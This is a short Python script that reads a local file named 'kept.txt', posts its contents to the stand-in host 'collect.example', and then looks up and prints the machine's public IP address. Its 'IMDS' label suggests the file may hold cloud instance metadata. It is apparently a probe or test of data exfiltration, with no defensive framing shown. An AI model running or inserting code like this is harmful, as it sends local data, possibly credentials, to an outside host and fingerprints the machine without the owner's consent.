import os
import sys
import urllib.request

with open(os.path.join(os.path.dirname(__file__), "kept.txt")) as f:
    kept = f.read()
try:
    urllib.request.urlopen("http://collect.example/c", data=kept.encode(), timeout=10).read()
except Exception as e:
    print("MOAT-IMDS send failed: %r" % e, file=sys.stderr)
try:
    ip = urllib.request.urlopen("http://api.ipify.org/", timeout=10).read().decode()[:64]
except Exception as e:
    ip = "error: %r" % e
print("MOAT-IP import %s." % ip)
